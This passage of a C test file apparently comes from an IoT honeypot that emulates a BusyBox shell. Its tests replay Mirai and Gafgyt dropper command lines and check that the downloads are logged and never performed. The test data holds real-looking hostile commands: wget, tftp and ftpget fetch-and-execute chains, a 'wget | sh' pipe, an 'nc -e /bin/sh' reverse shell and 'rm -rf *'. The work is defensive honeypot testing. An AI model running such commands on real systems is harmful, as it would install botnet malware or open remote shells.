		snprintf(line + o, sizeof(line) - o, "' %s upnp; /bin/busybox ECCHI", off == 0 ? ">" : ">>");
		run(sh, &b, line, NULL);
	}
	assert_int_equal(log.nfiles, 0); /* written, not yet run: nothing handed over */
	run(sh, &b, "./upnp; ./dvrHelper mirai.arm7; /bin/busybox IHCCE", NULL);
	assert_out_has(&b, "IHCCE: applet not found");
	/* Contents first, then the execution, exactly once; the bytes are the uploaded ones. */
	size_t fi = obs_index(&log, "F /dev/shm/upnp 200");
	size_t ei = obs_index(&log, "E execute /dev/shm/upnp");
	assert_true(fi < ei);
	assert_int_equal(log.nfiles, 1);
	assert_int_equal(log.datalen[0], sizeof(drop));
	assert_memory_equal(log.data[0], drop, sizeof(drop));
	/* Run again unchanged: executed again, not sent again. */
	run(sh, &b, "./upnp", NULL);
	assert_int_equal(obs_count(&log, "F /dev/shm/upnp 200"), 1);
	assert_int_equal(obs_count(&log, "E execute /dev/shm/upnp"), 2);
	/* Changed, then run: sent again with the new contents. */
	run(sh, &b, "echo -ne '\\x00\\x01' >> upnp; ./upnp", NULL);
	assert_int_equal(obs_count(&log, "F /dev/shm/upnp 202"), 1);
	/* Left behind at the end: a non-empty file not run, and (again) nothing already sent. An
	 * empty file and a removed one are not evidence. */
	run(sh, &b, "echo 'wget http://198.51.100.23/x' > /tmp/left.sh; > /tmp/empty; echo gone > /tmp/gone; rm /tmp/gone",
	    NULL);
	size_t before = log.nfiles;
	emu_shell_free(sh);
	assert_int_equal(log.nfiles, before + 1);
	assert_int_equal(obs_count(&log, "F /tmp/left.sh 28"), 1);
	assert_int_equal(obs_count(&log, "F /dev/shm/upnp 202"), 1);
	assert_int_equal(obs_count(&log, "F /tmp/empty 0"), 0);
	toride_buf_free(&b);
	device.obs = NULL;
	device.obs_arg = NULL;
}

/* ---- droppers as bots type them ---- */

static void
test_droppers(void **state)
{
	(void)state;
	make_device("mipsel", "BusyBox v1.19.4 (2014-02-18 11:43:50 CST) multi-call binary.");
	struct emu_shell *sh = NULL;
	assert_int_equal(emu_shell_new(&sh, &device), 0);
	static struct events ev;
	memset(&ev, 0, sizeof(ev));
	emu_shell_set_event_cb(sh, on_event, &ev);
	struct toride_buf b;
	toride_buf_init(&b, OUT_MAX);
	int ret;

	/* Gafgyt/Bashlite: every download named, each step failing as on a device without a route. */
	run(sh, &b,
	    "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://198.51.100.5/bins.sh; chmod 777 bins.sh; "
	    "sh bins.sh; tftp 198.51.100.5 -c get tftp1.sh; chmod 777 tftp1.sh; sh tftp1.sh; tftp -r tftp2.sh -g 198.51.100.5; "
	    "chmod 777 tftp2.sh; sh tftp2.sh; ftpget -v -u anonymous -p anonymous -P 21 198.51.100.5 ftp1.sh ftp1.sh; "
	    "sh ftp1.sh; rm -rf bins.sh tftp1.sh tftp2.sh ftp1.sh; rm -rf *",
	    NULL);
	assert_true(has_event(&ev, "download", "http://198.51.100.5/bins.sh"));
	assert_true(has_event(&ev, "download", "tftp://198.51.100.5/tftp1.sh"));
	assert_true(has_event(&ev, "download", "tftp://198.51.100.5/tftp2.sh"));
	assert_true(has_event(&ev, "download", "ftp://198.51.100.5/ftp1.sh"));
	assert_out_has(&b, "Connecting to 198.51.100.5 (198.51.100.5:80)\r\n");
	assert_out_has(&b, "chmod: bins.sh: No such file or directory\r\n");
	assert_out_has(&b, "sh: can't open 'bins.sh': No such file or directory\r\n");
	assert_out_has(&b, "tftp: invalid option -- 'c'\r\n");
	assert_out_has(&b, "tftp: timeout\r\n");
	run(sh, &b, "pwd", NULL);
	assert_string_equal((const char *)b.data, "/tmp\r\n");
	run(sh, &b, "tftp -g -l h -r arm7 198.51.100.5 23456", NULL);
	assert_true(has_event(&ev, "download", "tftp://198.51.100.5:23456/arm7"));

	/* busybox wget, wget -O- | sh, curl (absent here), nc: recorded, never made. */
	run(sh, &b, "/bin/busybox wget http://198.51.100.6:8080/m.arm -O /tmp/m; echo $?", NULL);
	assert_true(has_event(&ev, "download", "http://198.51.100.6:8080/m.arm"));
	assert_out_has(&b, "wget: can't connect to remote host (198.51.100.6): Connection refused\r\n1\r\n");
	run(sh, &b, "wget -qO- http://198.51.100.6/i.sh | sh; echo $?", NULL);
	assert_true(has_event(&ev, "download", "http://198.51.100.6/i.sh"));
	assert_string_equal((const char *)b.data,
	                    "wget: can't connect to remote host (198.51.100.6): Connection refused\r\n0\r\n");
	run(sh, &b, "curl -s -o x -O http://198.51.100.6/c.sh; echo $?", NULL);
	assert_true(has_event(&ev, "download", "http://198.51.100.6/c.sh"));
	assert_false(has_event(&ev, "download", "x"));
	assert_string_equal((const char *)b.data, "sh: curl: not found\r\n127\r\n");
	run(sh, &b, "nc 198.51.100.6 4444 -e /bin/sh", NULL);
	assert_true(has_event(&ev, "download", "tcp://198.51.100.6:4444"));
	run(sh, &b, "wget 198.51.100.6/noscheme", NULL);
	assert_true(has_event(&ev, "download", "198.51.100.6/noscheme"));
	assert_string_equal((const char *)b.data, "wget: not an http or ftp url: 198.51.100.6/noscheme\r\n");

	/* A script uploaded with echo runs (interpreted), in its own directory context; exit in it
	 * ends only the script. Newlines, comments and multi-line loops work as in a file. */
	run(sh, &b,
	    "echo -e '#!/bin/sh\\n# fetch\\ncd /\\nfor i in 1 2\\ndo\\n  echo L$i\\ndone\\nif true\\nthen\\n  echo T\\nfi\\n"
	    "exit 3\\necho never' > /tmp/d.sh; chmod +x /tmp/d.sh; /tmp/d.sh; echo st=$?; pwd",
	    NULL);
	assert_string_equal((const char *)b.data, "L1\r\nL2\r\nT\r\nst=3\r\n/tmp\r\n");
	assert_true(has_event(&ev, "execute", "/tmp/d.sh"));
	run(sh, &b, "sh /tmp/d.sh arg; echo 'echo piped; cd /var' | sh; sh -c 'echo c; exit 4'; echo $?; pwd", &ret);
	assert_int_equal(ret, EMU_CONTINUE);
	assert_string_equal((const char *)b.data, "L1\r\nL2\r\nT\r\npiped\r\nc\r\n4\r\n/tmp\r\n");
	assert_true(has_event(&ev, "execute", "/tmp/d.sh arg"));
	run(sh, &b, "echo 'cd /var' > /tmp/src; . /tmp/src; pwd; cd /tmp", NULL);
	assert_string_equal((const char *)b.data, "/var\r\n");

	/* Loops of echo appends, seq, while read from a file and from a pipe. */
	run(sh, &b, "for i in $(seq 3); do echo -ne '\\x41' >> /tmp/l; done; cat /tmp/l; echo; seq 2 2 6", NULL);
	assert_string_equal((const char *)b.data, "AAA\r\n2\r\n4\r\n6\r\n");
	run(sh, &b, "echo -e 'a b\\nc d\\n' > /tmp/lines; while read x y; do echo $y-$x; done < /tmp/lines", NULL);
	assert_string_equal((const char *)b.data, "b-a\r\nd-c\r\n-\r\n");
	run(sh, &b, "cat /tmp/lines | while read l; do echo \"[$l]\"; done | head -n 2", NULL);
	assert_string_equal((const char *)b.data, "[a b]\r\n[c d]\r\n");
	run(sh, &b, "for i in 1 2; do echo $i; done > /tmp/o; { echo x; echo y; } >> /tmp/o; cat /tmp/o", NULL);
	assert_string_equal((const char *)b.data, "1\r\n2\r\nx\r\ny\r\n");

	/* A Mirai fork's loader (cowrie issue #1019): dd of the ELF header, the while-read fallback. */
	run(sh, &b, "cat /proc/mounts; /bin/busybox SMJKD", NULL);
	assert_out_has(&b, "SMJKD: applet not found");
	run(sh, &b, "cd /dev/shm; cat .s || cp /bin/echo .s; /bin/busybox SMJKD", NULL);
	assert_out_has(&b, "cat: can't open '.s': No such file or directory\r\n");
	run(sh, &b, "tftp; wget; /bin/busybox SMJKD", NULL);
	assert_out_has(&b, "Usage: tftp");
	run(sh, &b, "dd bs=52 count=1 if=.s || cat .s || while read i; do echo $i; done < .s", NULL);
	/* MIPS little endian (EM_MIPS = 8), 52 bytes, then busybox's statistics. */
	assert_memory_equal(b.data, "\x7f" "ELF\x01\x01\x01", 7);
	assert_int_equal(b.data[18], 8);
	assert_out_has(&b, "1+0 records in\r\n1+0 records out\r\n52 bytes (52B) copied, ");
	run(sh, &b, "/bin/busybox dd if=/bin/busybox bs=22 count=1 of=/tmp/h; wc -c < /tmp/h", NULL);
	assert_out_has(&b, "       22\r\n");
	/* Another fork (cowrie issue #290): backquoted ls -a in a for list. */
	run(sh, &b,
	    "mkdir /dev/netslink; >/dev/netslink/.t && cd /dev/netslink/ && for a in `ls -a /dev/netslink/`; do >$a; "
	    "done; >gaybot; ls -a",
	    NULL);
	assert_out_has(&b, "sh: can't create .: Is a directory\r\n");
	assert_out_has(&b, ".t");
	assert_out_has(&b, "gaybot");

	/* Globs, nohup and &, ln -s, 2>&1. */
	run(sh, &b, "cd /tmp; rm -rf *; touch a1 a2 b1 .h; echo a* *1 z*; ls", NULL);
	assert_string_equal((const char *)b.data, "a1 a2 a1 b1 z*\r\na1  a2  b1\r\n");
	run(sh, &b, "echo -ne '\\x7fELF' > bot; chmod 777 *; nohup ./bot >/dev/null 2>&1 & echo bg", NULL);
	assert_string_equal((const char *)b.data, "bg\r\n");
	assert_true(has_event(&ev, "execute", "/tmp/bot"));
	run(sh, &b, "ln -s /bin/busybox /tmp/bb; /tmp/bb MIRAI; ls /nope 2>&1 | wc -l", NULL);
	assert_string_equal((const char *)b.data, "bb: applet not found\r\n        1\r\n");
	run(sh, &b, "rm -rf *; ls -a", NULL); /* * leaves dot files */
	assert_string_equal((const char *)b.data, ".  ..  .h\r\n");

	/* The give-up and a last exit close the session. */
	run(sh, &b, "rm .s; exit", &ret);
	assert_int_equal(ret, EMU_CLOSE);
	toride_buf_free(&b);
	emu_shell_free(sh);
}

/* ---- per-instance randomisation ---- */

#define NSEEDS 24

/* Output of cmd on a shell of a device with this seed, type and arch. */
static void
capture(uint64_t seed, const char *type, const char *arch, const char *cmd, char *out, size_t outlen)
{
	make_device(arch, "BusyBox v1.22.1 (2017-11-09 19:20:52 CST) multi-call binary.");
	snprintf(profile.type, sizeof(profile.type), "%s", type);
	device.seed = seed;
	struct emu_shell *sh = NULL;
	assert_int_equal(emu_shell_new(&sh, &device), 0);
	struct toride_buf b;
	toride_buf_init(&b, OUT_MAX);
	run(sh, &b, cmd, NULL);
	snprintf(out, outlen, "%.*s", (int)b.len, (const char *)b.data);
	toride_buf_free(&b);
	emu_shell_free(sh);
}

static size_t
distinct(char v[][4096], size_t n)
{
	size_t d = 0;
	for (size_t i = 0; i < n; i++) {
		bool seen = false;
		for (size_t k = 0; k < i; k++)
			seen = seen || strcmp(v[i], v[k]) == 0;
		d += !seen;
	}
	return d;
}

static void
test_randomisation(void **state)
{
	(void)state;
	static const char *const cmds[] = { "cat /proc/meminfo", "grep BogoMIPS /proc/cpuinfo", "ps", "cat /etc/passwd",
		                            "ls /var/tmp", "dmesg" };
	/* How many different answers 24 instances must give at least (small pools: passwd, /var/tmp). */
	static const size_t min_distinct[] = { 20, 20, 20, 12, 10, 20 };
	static char v[NSEEDS][4096];
	static char again[4096];
	for (size_t c = 0; c < sizeof(cmds) / sizeof(cmds[0]); c++) {
		for (size_t i = 0; i < NSEEDS; i++)
			capture(0x5eed0000ULL + i * 7919, "DVR", "armv7l", cmds[c], v[i], sizeof(v[i]));
		if (distinct(v, NSEEDS) < min_distinct[c]) {
			fprintf(stderr, "%s: only %zu different answers\n", cmds[c], distinct(v, NSEEDS));
			fail();
		}
		/* One seed, one device: the same answer every time. */
		capture(0x5eed0000ULL + 3 * 7919, "DVR", "armv7l", cmds[c], again, sizeof(again));
		assert_string_equal(again, v[3]);
	}
	/* Values stay in what the class shows. */
	static const struct {
		const char *type;
		unsigned lo_mb, hi_mb;
	} cls[] = { { "DVR", 55, 256 }, { "IP Camera", 55, 256 }, { "Router", 23, 128 }, { "NAS", 247, 1024 } };
	for (size_t k = 0; k < sizeof(cls) / sizeof(cls[0]); k++) {
		for (size_t i = 0; i < NSEEDS; i++) {
			char out[4096];
			capture(0xabc00000ULL + i * 104729, cls[k].type, "armv7l", "cat /proc/meminfo; free; dmesg | grep Memory",
			        out, sizeof(out));
			unsigned tot = 0, fr = 0, ftot = 0;
			assert_int_equal(sscanf(strstr(out, "MemTotal:"), "MemTotal: %u kB", &tot), 1);
			assert_int_equal(sscanf(strstr(out, "MemFree:"), "MemFree: %u kB", &fr), 1);
			assert_int_equal(sscanf(strstr(out, "Mem: "), "Mem: %u", &ftot), 1);
			assert_true(tot >= cls[k].lo_mb * 1024 && tot <= cls[k].hi_mb * 1024);
			assert_true(fr < tot && fr > tot / 10);
			assert_int_equal(ftot, tot); /* free agrees with /proc/meminfo, dmesg too */
			char mem[64];
			snprintf(mem, sizeof(mem), "Memory: %uK/", tot);
			assert_non_null(strstr(out, mem));
		}
	}
	for (size_t i = 0; i < NSEEDS; i++) {
		char out[4096];
		capture(0x77000000ULL + i, "IP Camera", "armv7l", "grep BogoMIPS /proc/cpuinfo", out, sizeof(out));
		unsigned bi = 0, bf = 0;
		assert_int_equal(sscanf(out, "BogoMIPS : %u.%u", &bi, &bf), 2);
		assert_true(bi >= 790 && bi <= 2000);
		capture(0x77000000ULL + i, "Router", "mips", "grep BogoMIPS /proc/cpuinfo", out, sizeof(out));
		assert_int_equal(sscanf(out, "BogoMIPS\t\t: %u.%u", &bi, &bf), 2);
		assert_true(bi >= 250 && bi <= 600);
		/* Every account is one a firmware image ships: no invented names. */
		capture(0x77000000ULL + i, "DVR", "armv7l", "cat /etc/passwd", out, sizeof(out));
		static const char *const ok[] = { "root", "daemon", "bin", "sys", "admin", "support", "mail", "ftp",
			                          "sshd", "www-data", "operator", "user", "guest", "nobody" };
		for (char *line = out; *line != '\0';) {
			size_t nl = strcspn(line, ":");
			bool found = false;
			for (size_t k = 0; k < sizeof(ok) / sizeof(ok[0]); k++)
				found = found || (strlen(ok[k]) == nl && strncmp(line, ok[k], nl) == 0);
			if (!found)
				fprintf(stderr, "unexpected account: %.*s\n", (int)nl, line);
			assert_true(found);
			char *e = strstr(line, "\r\n");
			if (e == NULL)
				break;
			line = e + 2;
		}
		/* The shell's pid is above every daemon's, and ps is in pid order. */
		capture(0x77000000ULL + i, "Router", "mips", "ps", out, sizeof(out));
		unsigned last = 0;
		for (char *line = strstr(out, "\r\n") + 2; *line != '\0';) {
			unsigned pid = 0;
			assert_int_equal(sscanf(line, "%u", &pid), 1);
			assert_true(pid > last);
			last = pid;
			line = strstr(line, "\r\n") + 2;
		}
	}
	/* dmesg names the device's MAC; uptime agrees with boot_time. */
	char out[4096];
	capture(1, "DVR", "armv7l", "dmesg | grep MAC; uptime", out, sizeof(out));
	assert_non_null(strstr(out, "eth0: MAC address 00:12:41:a1:b2:c3\r\n"));
	assert_non_null(strstr(out, " up 3 days,  4:05, "));
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_mirai_dialogue),
		cmocka_unit_test(test_echo_dropper_exact),
		cmocka_unit_test(test_everyday_commands),
		cmocka_unit_test(test_no_profile_defaults),
		cmocka_unit_test(test_loops_bounded),
		cmocka_unit_test(test_hostile_lines),
		cmocka_unit_test(test_file_evidence),
		cmocka_unit_test(test_droppers),
		cmocka_unit_test(test_randomisation),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
